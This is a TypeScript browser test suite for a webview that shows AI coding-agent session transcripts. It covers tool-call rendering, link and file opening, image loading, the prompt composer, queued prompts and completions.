import assert from 'node:assert/strict';
import type { EntryChange } from '../../src/protocol/page/entries.ts';
import type { SubagentState } from '../../src/protocol/page/header.ts';
import { aHeader, aMessage, aText, aTool, aView, askingFor } from './builders.ts';
import { sampleSession } from './sampleSession.ts';
import { themeKinds } from './themes.ts';
import { PageBench, type TranscriptPage } from './transcriptPage.ts';

describe('The transcript page', function () {
  let bench: PageBench;
  let shown: TranscriptPage;

  before(async () => {
    bench = await PageBench.start();
  });

  beforeEach(async () => {
    shown = await bench.open({ height: 3000 });
  });

  afterEach(async () => {
    assert.deepEqual(shown.errors, []);
    await shown.close();
  });

  after(() => bench.stop());

  const part = (id: string) => shown.page.locator(`[data-part-id="${id}"]`);

  it('speaks the language that the editor has sentences for', async () => {
    const shown = await bench.open({ strings: { Prompt: 'Auftrag <b>' } });
    await shown.send({ type: 'show', view: sampleSession() });
    await shown.page.getByLabel('Auftrag <b>').waitFor();
    assert.deepEqual(shown.errors, []);
    await shown.page.close();
  });

  it('shows a part of every type', async () => {
    await shown.send({ type: 'show', view: sampleSession() });
    const types = await shown.page
      .locator('[data-part-type]')
      .evaluateAll((parts) => parts.map((one) => one.getAttribute('data-part-type')));
    const every =
      'agent compaction file patch reasoning retry snapshot step-finish step-start subtask text tool unknown';
    assert.deepEqual(new Set(types), new Set(every.split(' ')));
  });

  it('words tool calls by their outcome', async () => {
    await shown.send({ type: 'show', view: sampleSession() });
    const heads = await shown.page.locator('.tool .disclosure-head').allInnerTexts();
    const lines = heads.map((head) => head.replaceAll(/\s+/g, ' ').trim());
    for (const line of [
      'Read src/cart.ts lines 1–80',
      'Searched for new Cart\\( 3 matches',
      'Edited src/cart.ts +3 −1',
      'Ran npm test exit code 1 4.1 s',
      'Updated todos 1 of 3 done',
      'Could not fetch https://example.com',
      'Looking for files **/*.ts interrupted',
    ]) {
      assert.ok(lines.includes(line), `“${line}” is not among ${JSON.stringify(lines)}`);
    }
  });

  it('names a file from the folder of the session on, also before its call is done and where that failed', async () => {
    const input = { filePath: '/work/shop/src/cart.ts' };
    const error = { text: 'oldString not found in content' };
    const calls = [
      aTool({ id: 'prt_1', tool: 'edit', status: 'running', input }),
      aTool({ id: 'prt_2', tool: 'edit', status: 'error', input, error }),
      aTool({ id: 'prt_3', tool: 'edit', title: 'src/cart.ts', input }),
      aTool({ id: 'prt_4', tool: 'read', input: { filePath: '/work/shop2/src/cart.ts' } }),
    ];
    await shown.send({ type: 'show', view: aView({ entries: [aMessage(1, ...calls)] }) });
    const links = shown.page.locator('.tool .file-link');
    assert.deepEqual(await links.allInnerTexts(), [
      'src/cart.ts',
      'src/cart.ts',
      'src/cart.ts',
      '/work/shop2/src/cart.ts',
    ]);
    await links.first().click();
    assert.equal((await shown.posted('openFile')).path, '/work/shop/src/cart.ts');
  });

  it('shows what an edit is to replace while it runs and where it failed', async () => {
    const input = {
      filePath: '/work/shop/src/cart.ts',
      oldString: 'let a;\nlet b;',
      newString: 'const a = 1;',
    };
    const error = { text: 'oldString not found in content' };
    const calls = [
      aTool({ id: 'prt_1', tool: 'edit', status: 'error', input, error }),
      aTool({ id: 'prt_2', tool: 'edit', status: 'pending' }),
    ];
    await shown.send({ type: 'show', view: aView({ entries: [aMessage(1, ...calls)] }) });
    for (const id of ['prt_1', 'prt_2']) await part(id).locator('.disclosure-button').click();
    const lines = await part('prt_1')
      .locator('.diff-line')
      .evaluateAll((nodes) => nodes.map((line) => [line.className, line.textContent]));
    assert.deepEqual(lines, [
      ['diff-line removed', 'let a;'],
      ['diff-line removed', 'let b;'],
      ['diff-line added', 'const a = 1;'],
    ]);
    assert.equal(await part('prt_1').locator('.tool-error').innerText(), error.text);
    assert.equal(await part('prt_2').locator('.disclosure-body').innerText(), '');
  });

  it('shows a call whatever its tool is called', async () => {
    const names = ['constructor', 'toString', '__proto__'];
    const calls = names.map((tool, index) => aTool({ id: `prt_${index}`, tool, title: 'Done' }));
    await shown.send({ type: 'show', view: aView({ entries: [aMessage(1, ...calls)] }) });
    const verbs = await shown.page.locator('.tool-verb').allInnerTexts();
    assert.deepEqual(verbs, names);
  });

  it('tells a call that was not allowed from one that failed', async () => {
    const refused = 'The user rejected permission to use this specific tool call.';
    const call = (id: string, error: string) =>
      aTool({ id, tool: 'bash', status: 'error', input: { command: 'git push' }, error: { text: error } });
    const entries = [aMessage(1, call('prt_1', refused), call('prt_2', 'No shell'))];
    await shown.send({ type: 'show', view: aView({ entries }) });
    assert.match(await part('prt_1').innerText(), /not allowed/);
    assert.equal(await part('prt_1').locator('.codicon-error').count(), 0);
    assert.doesNotMatch(await part('prt_2').innerText(), /not allowed/);
    assert.equal(await part('prt_2').locator('.codicon-error').count(), 1);
  });

  it('shows each question that was asked with its answer, and the file that it names as a link', async () => {
    const answers = [
      { question: 'Is the plan at .opencode/plans/cart.md complete?', answers: ['Yes'] },
      { question: 'Which rates?', answers: ['7 %', '19 %'] },
      { question: 'Round?', answers: [] },
    ];
    const output = { text: 'User has answered your questions: …' };
    const entries = [aMessage(1, aTool({ id: 'prt_1', tool: 'question', answers, output }))];
    await shown.send({ type: 'show', view: aView({ entries }) });
    const said = part('prt_1').locator('.answers');
    assert.deepEqual(
      await said.locator('dt').allInnerTexts(),
      answers.map(({ question }) => question),
    );
    assert.deepEqual(await said.locator('dd').allInnerTexts(), ['Yes', '7 %, 19 %', 'Not answered']);
    assert.equal(await part('prt_1').getByText('User has answered').count(), 0);
    const question = {
      question: 'Plan at .opencode/plans/cart.md is complete. Go on?',
      header: 'Plan',
      options: [],
    };
    const asked = {
      id: 'que_1',
      sessionId: 'ses_1',
      questions: [{ ...question, multiple: false, custom: true }],
    };
    await shown.send({ type: 'requests', sessionId: 'ses_1', permissions: [], questions: [asked] });
    await shown.page.locator('.question .file-link').click();
    assert.equal((await shown.posted('openFile')).path, '.opencode/plans/cart.md');
  });

  it('shows terminal output in colours when the call is opened', async () => {
    await shown.send({ type: 'show', view: sampleSession() });
    await part('prt_06').locator('.disclosure-button').click();
    assert.equal(await part('prt_06').locator('.output .ansi-fg-1').innerText(), '✗ totals');
  });

  it('asks the host for the diff, the whole output and the subagent', async () => {
    await shown.send({ type: 'show', view: sampleSession() });
    await part('prt_05').getByTestId('open-diff').click();
    assert.equal((await shown.posted('openDiff')).partId, 'prt_05');
    await part('prt_14').locator('.disclosure-button').click();
    await part('prt_14').getByTestId('show-all').click();
    assert.equal((await shown.posted('openOutput')).partId, 'prt_14');
    await part('prt_08').getByTestId('open-subagent').click();
    assert.equal((await shown.posted('openSession')).sessionId, 'ses_child');
  });

  const pixel =
    'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

  it('asks for the picture that a call gave back when its card is opened, once, and shows it in there', async () => {
    const file = { mime: 'image/png', filename: 'logo.png', size: 70, isLoadable: true };
    const call = aTool({ tool: 'read', output: { text: 'Image read successfully' }, files: [file] });
    await shown.send({ type: 'show', view: aView({ entries: [aMessage(1, call)] }) });
    assert.deepEqual(
      (await shown.allPosted()).filter(({ type }) => type === 'loadPart'),
      [],
    );
    await part('prt_read').locator('.disclosure-button').click();
    const { messageId, partId } = await shown.posted('loadPart');
    assert.deepEqual({ messageId, partId }, { messageId: 'msg_000001', partId: 'prt_read' });
    assert.match(await part('prt_read').innerText(), /logo\.png\s*70 B/);
    const tell = (one: typeof call) =>
      shown.send({ type: 'part', sessionId: 'ses_1', messageId: 'msg_000001', part: one });
    await tell({ ...call, title: 'logo.png' });
    assert.deepEqual(
      (await shown.allPosted()).filter(({ type }) => type === 'loadPart'),
      [],
    );
    await tell({ ...call, files: [{ mime: 'image/png', filename: 'logo.png', image: pixel }] });
    const picture = part('prt_read').getByRole('img', { name: 'logo.png' });
    assert.equal(await picture.evaluate((one: HTMLImageElement) => one.naturalWidth), 1);
    await picture.click();
    assert.equal((await shown.posted('openAttachment')).index, 0);
    // What the host tells of the call by itself is without it.
    await tell({ ...call, title: 'again' });
    assert.equal((await shown.posted('loadPart')).partId, 'prt_read');
  });

  it('offers what a call gave back as a file where it is no picture that can be shown', async () => {
    const files = [
      { mime: 'image/svg+xml', filename: 'logo.svg', size: 700 },
      { mime: 'image/png', filename: 'sly.png', image: 'data:image/svg+xml;base64,PHN2Zy8+' },
      { mime: 'application/pdf', filename: 'plan.pdf', size: 2_140_000 },
    ];
    await shown.send({
      type: 'show',
      view: aView({ entries: [aMessage(1, aTool({ tool: 'read', files }))] }),
    });
    await part('prt_read').locator('.disclosure-button').click();
    assert.match(await part('prt_read').innerText(), /plan\.pdf\s*2\.1 MB/);
    assert.equal(await part('prt_read').locator('img').count(), 0);
    await part('prt_read').getByText('plan.pdf').click();
    assert.equal((await shown.posted('openAttachment')).index, 2);
    assert.deepEqual(
      (await shown.allPosted()).filter(({ type }) => type === 'loadPart'),
      [],
    );
  });

  it('shows a large picture of a message when it is asked for, and opens it in an editor', async () => {
    const file = { id: 'prt_0', type: 'file', mime: 'image/png', filename: 'screen.png' } as const;
    const large = { ...file, size: 2_140_000, isLoadable: true };
    await shown.send({ type: 'show', view: aView({ entries: [aMessage(0, large)] }) });
    await part('prt_0').getByTestId('open-attachment').click();
    const { messageId, partId, index } = await shown.posted('openAttachment');
    assert.deepEqual([messageId, partId, index], ['msg_000000', 'prt_0', 0]);
    await part('prt_0').getByTestId('show-picture').click();
    assert.equal((await shown.posted('loadPart')).partId, 'prt_0');
    const loaded = { ...file, image: pixel };
    await shown.send({ type: 'part', sessionId: 'ses_1', messageId: 'msg_000000', part: loaded });
    assert.equal(await part('prt_0').getByRole('img', { name: 'screen.png' }).count(), 1);
    // The focus stays with the file.
    assert.equal(await part('prt_0').locator('.picture:focus').count(), 1);
  });

  it('opens the whole of an error of which only some is told', async () => {
    const retry = {
      id: 'prt_1',
      type: 'retry',
      attempt: 1,
      message: 'a…',
      clamped: 90_000,
      created: 0,
    } as const;
    const message = `<html> ${'word '.repeat(800)}… Send the prompt again in a while.`;
    const failed = { ...aMessage(1, retry), error: { name: 'APIError', message, clamped: 90_000 } };
    await shown.send({ type: 'show', view: aView({ entries: [failed] }) });
    await shown.page.locator('.run-error').getByTestId('show-all').click();
    assert.equal((await shown.posted('openError')).messageId, failed.id);
    await part('prt_1').getByTestId('show-all').click();
    assert.equal((await shown.posted('openOutput')).partId, 'prt_1');
  });

  it('shows a text of more pieces than a call takes arguments', async () => {
    const text = 'a\\\n'.repeat(66_000);
    await shown.send({ type: 'show', view: aView({ entries: [aMessage(1, aText('prt_1', text))] }) });
    assert.equal(await part('prt_1').locator('br').count(), 65_999);
  });

  it('does not go on thinking where that was interrupted', async () => {
    const thought = { id: 'prt_1', type: 'reasoning', text: 'Hm', start: 0 } as const;
    await shown.send({ type: 'show', view: aView({ entries: [aMessage(1, thought)] }) });
    assert.equal(await part('prt_1').innerText(), 'Thinking…');
    const interrupted = { ...thought, interrupted: true };
    const changes = [{ kind: 'part', messageId: 'msg_000001', part: interrupted }] as const;
    await shown.send({ type: 'changes', sessionId: 'ses_1', changes });
    assert.equal(await part('prt_1').innerText(), 'Thinking was interrupted');
    assert.equal(await shown.page.locator('.running').count(), 0);
  });

  it('opens files at their line and links in the browser, and never goes anywhere itself', async () => {
    await shown.send({ type: 'show', view: sampleSession() });
    await part('prt_20').getByText('src/cart.ts:12').click();
    const { path, line } = await shown.posted('openFile');
    assert.deepEqual({ path, line }, { path: 'src/cart.ts', line: 12 });
    await part('prt_20').getByText('the docs').click();
    assert.equal((await shown.posted('openLink')).url, 'https://example.com/cart');
    assert.equal(shown.page.url(), bench.server.address('vscode-dark'));
  });

  it('acts on each link once, whatever it is followed with, and lets no link reach the editor around it', async () => {
    const text =
      '[web](https://a.example/?q=%2Fb%3F&c=%26#d%2Fe), [file](src/cart.ts#L3), [top](#transcript)';
    await shown.send({ type: 'show', view: aView({ entries: [aMessage(1, aText('prt_1', text))] }) });
    await shown.page.evaluate(() => {
      const reached: string[] = [];
      Object.assign(globalThis, { reached });
      for (const type of ['click', 'auxclick'] as const) {
        window.addEventListener(type, (event) => {
          if (event.composedPath().some((one) => one instanceof HTMLAnchorElement)) reached.push(type);
        });
      }
    });
    const web = part('prt_1').getByRole('link', { name: 'web' });
    const file = part('prt_1').getByRole('link', { name: 'file' });
    const ways: readonly (() => Promise<void>)[] = [
      () => web.click(),
      () => web.click({ modifiers: ['ControlOrMeta'] }),
      () => web.click({ modifiers: ['Shift'] }),
      () => web.click({ button: 'middle' }),
      () => web.dblclick(),
      () => web.press('Enter'),
      () => file.click(),
      () => file.click({ button: 'middle' }),
      () => file.press('Enter'),
    ];
    for (const [at, follow] of ways.entries()) {
      await follow();
      // Nothing is opened by it: what comes first tells whether the way before opened more than one.
      await web.click({ button: 'right' });
      const expected = at < 6 ? 'openLink' : 'openFile';
      const posted = (await shown.allPosted()).filter(({ type }) => type.startsWith('open'));
      assert.deepEqual(
        posted.map(({ type }) => type),
        [expected],
        `way ${at}`,
      );
      const one = expected === 'openLink' ? await shown.posted('openLink') : await shown.posted('openFile');
      if (one.type === 'openLink') assert.equal(one.url, 'https://a.example/?q=%2Fb%3F&c=%26#d%2Fe');
      else assert.deepEqual([one.path, one.line], ['src/cart.ts', 3]);
    }
    assert.deepEqual(await shown.page.evaluate(() => (globalThis as { reached?: unknown }).reached), []);
    assert.equal(await part('prt_1').getByRole('link').count(), 2);
  });

  it('gives the code of a block to the host as it is', async () => {
    await shown.send({ type: 'show', view: sampleSession() });
    await part('prt_20').locator('[data-highlighted]').waitFor();
    await part('prt_20').locator('[data-code-action=insert]').click();
    assert.match((await shown.posted('insertAtCursor')).text, /^export function total[\s\S]*\}\n$/);
    await part('prt_20').locator('[data-code-action=open]').click();
    assert.equal((await shown.posted('openAsFile')).language, 'ts');
  });

  it('lets text grow as it comes, and settles it', async () => {
    const streaming = aMessage(1, { id: 'prt_1', type: 'text', text: 'Hello' });
    await shown.send({
      type: 'show',
      view: aView({ entries: [aMessage(0, aText('prt_0', 'Hi')), streaming] }),
    });
    const append = (text: string) =>
      ({ kind: 'append', messageId: streaming.id, partId: 'prt_1', text }) as const;
    await shown.send({ type: 'changes', sessionId: 'ses_1', changes: [append(' **wor'), append('ld**')] });
    assert.equal(await part('prt_1').locator('strong').innerText(), 'world');
    await shown.send({
      type: 'changes',
      sessionId: 'ses_1',
      changes: [
        append(' [a]\n\n[a]: https://a.example'),
        { kind: 'ended', messageId: streaming.id, partId: 'prt_1' },
      ],
    });
    assert.equal(await part('prt_1').locator('a').getAttribute('href'), 'https://a.example');
  });

  it('links to the host that was written, in the letters of the wire', async () => {
    const hosts = ['müller.example', 'xn--mller-kva.example', 'A.example', '2130706433', '0x7f.1'];
    const text = hosts.map((host) => `<http://${host}/>`).join(' ');
    await shown.send({ type: 'show', view: aView({ entries: [aMessage(1, aText('prt_1', text))] }) });
    const links = await part('prt_1')
      .locator('a')
      .evaluateAll((all) => all.map((link) => [link.getAttribute('href'), link.textContent]));
    assert.deepEqual(links, [
      ['http://xn--mller-kva.example/', 'http://müller.example/'],
      ['http://xn--mller-kva.example/', 'http://xn--mller-kva.example/'],
      ['http://A.example/', 'http://A.example/'],
      ['http://2130706433/', 'http://2130706433/'],
      ['http://0x7f.1/', 'http://0x7f.1/'],
    ]);
  });

  it('colours code once, also where its answer ends later', async () => {
    const streaming = aMessage(1, { id: 'prt_1', type: 'text', text: '' });
    await shown.send({ type: 'show', view: aView({ entries: [streaming] }) });
    const address = { messageId: streaming.id, partId: 'prt_1' } as const;
    const text = '~~~ts\nconst one = 1;\n~~~\n\nAnd so\non';
    await shown.send({
      type: 'changes',
      sessionId: 'ses_1',
      changes: [{ kind: 'append', ...address, text }],
    });
    const word = await part('prt_1').locator('[data-highlighted] .hl-keyword').elementHandle();
    await shown.send({
      type: 'changes',
      sessionId: 'ses_1',
      changes: [
        { kind: 'append', ...address, text: ' on.\n\n~~~ts\nconst two = 2;\n~~~' },
        { kind: 'ended', ...address },
      ],
    });
    // The queue is worked through in its order.
    await part('prt_1').locator('[data-highlighted]').nth(1).waitFor();
    assert.equal(await word?.evaluate((node) => node.isConnected), true);
  });

  it('takes back what a part has no more, and lets it grow from there', async () => {
    const text = (value: string) => ({ id: 'prt_1', type: 'text', text: value }) as const;
    const call = (output: string) =>
      aTool({ id: 'prt_2', tool: 'bash', status: 'running', output: { text: output } });
    const messageId = aMessage(1).id;
    const change = (changes: readonly EntryChange[]) =>
      shown.send({ type: 'changes', sessionId: 'ses_1', changes });
    const whole = text('A list:\n\n- one\n- two\n\n```ts\nlet a = 1;\n');
    await shown.send({ type: 'show', view: aView({ entries: [aMessage(1, whole, call('one\ntwo'))] }) });
    await shown.page.getByText('let a = 1;').waitFor();
    await change([
      { kind: 'part', messageId, part: text('A list:\n\n- on') },
      { kind: 'part', messageId, part: call('one') },
      { kind: 'append', messageId, partId: 'prt_1', text: 'ly' },
    ]);
    await part('prt_1').locator('li', { hasText: 'only' }).waitFor();
    assert.equal(await part('prt_1').innerText(), 'A list:\n\nonly');
    assert.equal(await part('prt_2').getByText('two').count(), 0);
  });

  it('passes over changes of what it does not know, twice told and late', async () => {
    const known = aMessage(1, aText('prt_1', 'Here'));
    await shown.send({ type: 'show', view: aView({ entries: [known] }) });
    const late = aMessage(0, aText('prt_0', 'Earlier'));
    const { parts, ...head } = late;
    await shown.send({
      type: 'changes',
      sessionId: 'ses_1',
      changes: [
        { kind: 'append', messageId: 'msg_unknown', partId: 'prt_9', text: 'x' },
        { kind: 'message', head },
        { kind: 'message', head },
        ...parts.map((one) => ({ kind: 'part', messageId: late.id, part: one }) as const),
        { kind: 'part', messageId: known.id, part: aText('prt_1', 'He') },
        { kind: 'partRemoved', messageId: known.id, partId: 'prt_9' },
      ],
    });
    const texts = await shown.page.locator('[data-part-type=text]').allInnerTexts();
    assert.deepEqual(
      texts.map((text) => text.trim()),
      ['Earlier', 'He'],
    );
  });

  it('sends with Enter, puts the text back if it was not taken, and keeps what was typed since', async () => {
    await shown.send({ type: 'show', view: aView() });
    const field = shown.page.getByTestId('composer').locator('textarea').first();
    await field.fill('Do it');
    await field.press('Shift+Enter');
    await field.press('Enter');
    const { sessionId, draft, mode } = await shown.posted('send');
    assert.deepEqual(
      { text: draft.text, agent: draft.agent, mode },
      { text: 'Do it\n', agent: undefined, mode: 'queue' },
    );
    assert.equal(await field.inputValue(), '');
    await field.fill('Also this');
    await shown.send({ type: 'unsent', sessionId, draft, problem: 'The server is not there.' });
    assert.equal(await field.inputValue(), 'Do it\n\n\nAlso this');
    assert.equal(await shown.page.getByTestId('composer-problem').innerText(), 'The server is not there.');
  });

  it('tells a prompt into the running turn from one after it', async () => {
    await shown.send({ type: 'show', view: aView({ header: aHeader({ status: { type: 'busy' } }) }) });
    const field = shown.page.getByTestId('composer').locator('textarea').first();
    await field.fill('Faster');
    await shown.page.getByTestId('steer').click();
    assert.equal((await shown.posted('send')).mode, 'steer');
    await field.fill('Then test');
    await shown.page.getByTestId('send').click();
    assert.equal((await shown.posted('send')).mode, 'queue');
    await shown.page.getByTestId('stop').click();
    assert.equal((await shown.posted('command')).command, 'opencodeSessions.session.abort');
  });

  it('shows pending relays, why one is held, and lets them go on and be moved', async () => {
    const queue = [
      { id: 'msg_r1', text: 'Review it.', agent: 'plan', relay: { held: 'The turn before it failed.' } },
      { id: 'msg_r2', text: 'Write it.', agent: 'build', relay: {} },
      { id: 'msg_q1', text: 'And then?', agent: 'build' },
    ];
    await shown.send({ type: 'show', view: aView({ queue }) });
    const rows = shown.page.getByTestId('queue').locator('li');
    assert.match(await rows.nth(0).innerText(), /held[\s\S]*The turn before it failed\./);
    await rows.nth(0).getByLabel('Send Held Relay').click();
    const { sessionId } = aView().header;
    const asked = { type: 'command', sessionId } as const;
    assert.deepEqual(await shown.posted('command'), {
      ...asked,
      command: 'opencodeSessions.relay.release',
      relayId: 'msg_r1',
    });
    assert.equal(await rows.nth(1).getByLabel('Send Held Relay').count(), 0);
    await rows.nth(1).getByLabel('Move Pending Relay Up').click();
    assert.equal((await shown.posted('command')).command, 'opencodeSessions.relay.moveUp');
    assert.equal(await rows.nth(2).getByLabel('Move Pending Relay Up').count(), 0);
  });

  it('shows that a queued prompt is being sent, and offers to change those that wait', async () => {
    const waiting = { id: 'msg_q2', text: 'And then?', agent: 'build' };
    const queue = [{ ...waiting, id: 'msg_q1', sending: true }, waiting];
    await shown.send({ type: 'show', view: aView({ queue }) });
    const rows = shown.page.locator('.queued');
    assert.match(await rows.first().innerText(), /sending…/);
    assert.equal(await rows.first().locator('button').count(), 0);
    assert.doesNotMatch(await rows.last().innerText(), /sending/);
    assert.equal(await rows.last().getByLabel('Edit Queued Prompt').count(), 1);
  });

  it('says that a prompt is held where no turn runs, and sends it when asked to', async () => {
    const queue = [
      { id: 'msg_q1', text: 'And then?', agent: 'build', sending: true },
      { id: 'msg_q2', text: '', attachments: ['a.png', 'b.ts:3'], agent: 'build' },
    ];
    const busy = aHeader({ status: { type: 'busy' } });
    await shown.send({ type: 'show', view: aView({ queue, header: busy }) });
    const rows = shown.page.getByTestId('queue').locator('li');
    const sendNow = shown.page.getByTestId('queue').getByLabel('Send Now');
    assert.match(await rows.nth(1).innerText(), /a\.png, b\.ts:3/);
    assert.equal(await sendNow.count(), 0);
    await shown.send({ type: 'header', header: aHeader() });
    assert.match(await rows.nth(1).innerText(), /held[\s\S]*The last turn was stopped or failed\./);
    assert.equal(await sendNow.count(), 1);
    await rows.nth(1).getByLabel('Edit Queued Prompt').click();
    await shown.send({ type: 'header', header: busy }, { type: 'header', header: aHeader() });
    await shown.page.keyboard.type('See these');
    await shown.page.keyboard.press('Enter');
    assert.equal((await shown.posted('queueEdit')).text, 'See these');
    await sendNow.click();
    assert.deepEqual(await shown.posted('queueSend'), {
      type: 'queueSend',
      sessionId: 'ses_1',
      id: 'msg_q2',
    });
  });

  it('recalls the prompts sent before with the arrow keys', async () => {
    await shown.send({ type: 'show', view: sampleSession() });
    const field = shown.page.getByTestId('composer').locator('textarea').first();
    await field.fill('draft');
    await field.press('Home');
    await field.press('ArrowUp');
    assert.equal(await field.inputValue(), 'Try again.');
    await field.press('End');
    await field.press('ArrowDown');
    assert.equal(await field.inputValue(), 'draft');
  });

  it('recalls a command as it was typed, not what became of it', async () => {
    const field = shown.page.getByLabel('Prompt', { exact: true });
    const template = aMessage(0, aText('prt_0', 'Review this with great care: src'));
    const said = { id: 'prt_2', type: 'text', text: 'The person ran a command.', synthetic: true } as const;
    const shell = aMessage(2, said);
    const own = aMessage(4, aText('prt_4', 'And now?'));
    const typed = { [template.id]: '/review src' };
    await shown.send(
      { type: 'show', view: aView({ entries: [template, shell, own], typed }) },
      { type: 'sent', sessionId: 'ses_1', picked: {}, typed: { ...typed, [shell.id]: '!ls' } },
    );
    for (const text of ['And now?', '!ls', '/review src']) {
      await field.press('ArrowUp');
      assert.equal(await field.inputValue(), text);
    }
  });

  it('moves through a wrapped prompt before the ones sent before, and keeps what was typed there', async () => {
    await shown.page.setViewportSize({ width: 500, height: 700 });
    await shown.send({ type: 'show', view: sampleSession() });
    const field = shown.page.getByLabel('Prompt', { exact: true });
    const typed = 'Words that go on and on. '.repeat(8);
    await field.fill(typed);
    await field.press('ArrowUp');
    await shown.send();
    assert.equal(await field.inputValue(), typed);
    await field.press('Control+Home');
    await field.press('ArrowUp');
    assert.equal(await field.inputValue(), 'Try again.');
    await field.press('x');
    await field.press('Control+Home');
    await field.press('ArrowUp');
    assert.equal(await field.inputValue(), typed);
  });

  it('leaves the focus where the person goes on, when what had it goes away', async () => {
    const focused = () =>
      shown.page.evaluate(
        () => document.activeElement?.getAttribute('aria-label') ?? document.activeElement?.tagName,
      );
    const busy = aHeader({ status: { type: 'busy' } });
    const field = shown.page.getByLabel('Prompt', { exact: true });
    await shown.send({ type: 'show', view: aView() });
    await field.fill('Go');
    await shown.page.getByTestId('send').click();
    assert.equal(await focused(), 'Prompt', 'after Send');
    await shown.send({ type: 'header', header: busy });
    await field.fill('Not there');
    await shown.page.getByTestId('steer').click();
    assert.equal(await focused(), 'Prompt', 'after Steer');
    await shown.page.getByTestId('stop').focus();
    await shown.send({ type: 'header', header: aHeader() });
    assert.equal(await focused(), 'Prompt', 'after Stop');

    const queue = ['que_1', 'que_2'].map((id) => ({ id, text: id, agent: 'build' }));
    await shown.send({ type: 'header', header: busy }, { type: 'queue', sessionId: 'ses_1', queue });
    const row = shown.page.locator('.queued').first();
    await row.getByLabel('Remove Queued Prompt').focus();
    await shown.send({ type: 'queue', sessionId: 'ses_1', queue: queue.slice(0, 1) });
    assert.equal(await focused(), 'Remove Queued Prompt', 'after news of the queue');
    await row.getByLabel('Edit Queued Prompt').press('Enter');
    await shown.page.keyboard.press('Escape');
    assert.equal(await focused(), 'Edit Queued Prompt', 'after an edit');
    await row.getByLabel('Remove Queued Prompt').focus();
    const sending = { id: 'que_1', text: 'que_1', agent: 'build', sending: true };
    await shown.send({ type: 'queue', sessionId: 'ses_1', queue: [sending] });
    assert.equal(await focused(), 'Prompt', 'once the prompt is being sent');
    await shown.send({ type: 'queue', sessionId: 'ses_1', queue: queue.slice(0, 1) });
    await row.getByLabel('Remove Queued Prompt').focus();
    await shown.send({ type: 'queue', sessionId: 'ses_1', queue: [] });
    assert.equal(await focused(), 'Prompt', 'after the queue');

    const attachments = ['a.ts', 'b.ts'].map((path) => ({ kind: 'file', path }) as const);
    await shown.send({ type: 'insert', sessionId: 'ses_1', text: '', attachments });
    await shown.page.getByLabel('Remove a.ts').press('Enter');
    assert.equal(await focused(), 'Remove b.ts', 'after an attachment');
    await shown.page.getByLabel('Remove b.ts').press('Enter');
    assert.equal(await focused(), 'Prompt', 'after the last attachment');

    const permissions = ['per_1', 'per_2'].map((id) => ({
      id,
      sessionId: 'ses_1',
      ...askingFor('bash'),
      patterns: ['ls'],
      always: [],
    }));
    const ask = (count: number) =>
      shown.send({
        type: 'requests',
        sessionId: 'ses_1',
        permissions: permissions.slice(2 - count),
        questions: [],
      });
    await ask(2);
    await shown.page.getByTestId('permission-once').first().press('Enter');
    await ask(1);
    assert.equal(await focused(), 'Allow this command to run?', 'the next request, not its button');
    await shown.page.getByTestId('permission-once').press('Enter');
    await ask(0);
    assert.equal(await focused(), 'Prompt', 'after the last request');

    await shown.page.getByTestId('outline').press('Enter');
    await shown.page.keyboard.press('Escape');
    assert.equal(await focused(), 'Messages', 'after the outline');
  });

  it('goes to the end of the prompt with Ctrl+End in it', async () => {
    await shown.send({ type: 'show', view: aView() });
    const field = shown.page.getByLabel('Prompt', { exact: true });
    await field.fill('one\ntwo');
    await field.press('Control+Home');
    await field.press('Control+End');
    assert.equal(await field.evaluate((one) => (one as HTMLTextAreaElement).selectionStart), 7);
  });

  it('completes files by @ and commands by /', async () => {
    await shown.send(
      { type: 'show', view: aView() },
      {
        type: 'choices',
        choices: { agents: [], models: [], commands: [{ name: 'init', description: 'Set up' }] },
      },
    );
    const field = shown.page.getByTestId('composer').locator('textarea').first();
    await field.pressSequentially('/in');
    await field.press('Enter');
    assert.equal(await field.inputValue(), '/init ');
    await field.fill('');
    await field.pressSequentially('see @ca');
    const { token, query } = await shown.posted('complete');
    await shown.posted('complete').catch(() => undefined);
    assert.ok(['', 'c', 'ca'].includes(query));
    const asked = (await shown.allPosted()).findLast((message) => message.type === 'complete');
    const items = [{ kind: 'file', label: 'cart.ts', insert: '@src/cart.ts' }] as const;
    await shown.send({ type: 'completions', token: asked?.type === 'complete' ? asked.token : token, items });
    await field.press('Tab');
    assert.equal(await field.inputValue(), 'see @src/cart.ts ');
  });

  it('offers the commands that have the letters of what was typed, the nearest first', async () => {
    const commands = ['undo-review', 'Review', 'init'].map((name) => ({ name, description: '' }));
    await shown.send(
      { type: 'show', view: aView() },
      { type: 'choices', choices: { agents: [], models: [], commands } },
    );
    const offered = async (typed: string): Promise<string[]> => {
      await composer().fill('');
      await composer().pressSequentially(typed);
      return shown.page.locator('.completions .option-label').allInnerTexts();
    };
    assert.deepEqual(await offered('/re'), ['/Review', '/undo-review']);
    assert.deepEqual(await offered('/rvw'), ['/undo-review', '/Review']);
    assert.deepEqual(await offered('/it'), ['/init']);
  });

  it('sends a command that is typed in full by one Enter, and completes what is not', async () => {
    const commands = ['init', 'initialise'].map((name) => ({ name, description: '' }));
    await shown.send(
      { type: 'show', view: aView() },
      { type: 'choices', choices: { agents: [], models: [], commands } },
    );
    await composer().pressSequentially('/init');
    await composer().press('ArrowDown');
    await composer().press('Enter');
    assert.equal(await composer().inputValue(), '/initialise ');
    await composer().fill('');
    await composer().pressSequentially('/init');
    await composer().press('Enter');
    assert.equal((await shown.posted('send')).draft.text, '/init');
    assert.equal(await composer().inputValue(), '');
  });

  it('offers nothing for a word any more once the caret has left its end, by key or by mouse', async () => {
    await shown.send({ type: 'show', view: aView() });
    const field = shown.page.getByLabel('Prompt', { exact: true });
    const list = shown.page.getByTestId('completions');
    const items = [{ kind: 'file', label: 'cart.ts', insert: '@src/cart.ts' }] as const;
    const lastToken = async () => {
      const asked = (await shown.allPosted()).findLast((message) => message.type === 'complete');
      return asked?.type === 'complete' ? asked.token : '';
    };
    const offer = async () => {
      await field.fill('');
      await field.pressSequentially('see @src');
      await shown.send({ type: 'completions', token: await lastToken(), items });
      assert.equal(await list.isVisible(), true);
    };
    for (const key of ['ArrowLeft', 'Home', 'Shift+ArrowLeft', 'ControlOrMeta+a']) {
      await offer();
      await field.press(key);
      await list.waitFor({ state: 'hidden' });
      assert.equal(await field.getAttribute('aria-activedescendant'), null);
      await shown.send({ type: 'completions', token: await lastToken(), items });
      assert.equal(await list.isVisible(), false, `an answer that comes after ${key}`);
    }
